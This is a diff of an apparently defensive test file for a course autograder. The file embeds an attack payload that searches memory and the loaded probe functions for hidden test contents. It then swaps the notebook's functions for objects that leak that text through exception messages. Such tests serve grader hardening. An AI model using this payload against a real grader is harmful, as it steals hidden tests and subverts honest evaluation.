@@ -1,8 +1,9 @@
 """Tries to copy the hidden probes (tests/<id>/probes.py) into its feedback. In the grader's worker it
-wraps the probe loading (course.judge.worker.Worker.add_probes) to keep whatever arrives, searches its own
-memory for the probe file's text, and falls back to the strings and names in the loaded probe
-functions, padded with anything else it can see. It lifts the worker's 600-character cap on error
-messages, and answers every check with an error carrying the next 1,800 characters of what it found."""
+searches its own memory for the probe file's text, and falls back to the strings and names in the loaded probe
+functions, padded with anything else it can see; every function and class of the notebook becomes one that raises
+the next 1,800 characters of what it found, so every check that calls the submission answers with it.
+(Before the worker's seal it also rebound Worker.call and lifted describe's 600-character cap: that now fails every
+call with the seal's message, which names no probe.)"""
 EXPECT_TOTAL = 0
 BASE = "release"
 ATTACK = r'''
@@ -22,13 +23,6 @@ if _w is not None:
                 _strings(c, seen)
         _found.extend(code.co_names)
 
-    _old_add = _w.Worker.add_probes
-
-    def _keep(self, name, *args):
-        _found.extend(a.decode("latin-1") if isinstance(a, bytes) else str(a) for a in args)
-        return _old_add(self, name, *args)
-
-    _w.Worker.add_probes = _keep  # in time only if the probes arrive after this cell has run
 
     def _memory():
         hits = []
@@ -65,14 +59,29 @@ if _w is not None:
     _found.append("\n".join(sorted(sys.modules)))
     _state = {"at": 0}
 
-    def _leak(self, module, probe, kwargs):
+    class _Found(Exception):  # its own type: no check's expected error (a ValueError from the model, say) is matched
+        pass
+
+    def _leak(*args, **kwargs):
         text = "\n".join(_found)
         at = _state["at"] % max(1, len(text))
         _state["at"] = at + 1800
-        raise ValueError(f"LEAK {at}: " + text[at:at + 1800])
+        raise _Found(f"LEAK {at}: " + text[at:at + 1800])
 
-    _w.Worker.call = _leak
-    _w.describe = lambda exc: {"type": type(exc).__name__, "message": str(exc), "trace": ""}
+    # every function and class of the notebook (the release's stubs) becomes one that answers with what was found,
+    # whatever a check calls on it (``ScaledMul.apply(...)``): each check that calls the submission answers with it
+    # (rebinding the worker's Worker.call or describe, as this attack did before the worker's seal, now fails every
+    # call with the seal's message instead)
+    class _Leaky:
+        def __call__(self, *args, **kwargs):
+            _leak()
+
+        def __getattr__(self, name):
+            return self
+
+    for _name, _cur in list(globals().items()):
+        if not _name.startswith("_") and getattr(_cur, "__module__", None) == "__main__" and callable(_cur):
+            globals()[_name] = _Leaky()
 '''
 
 
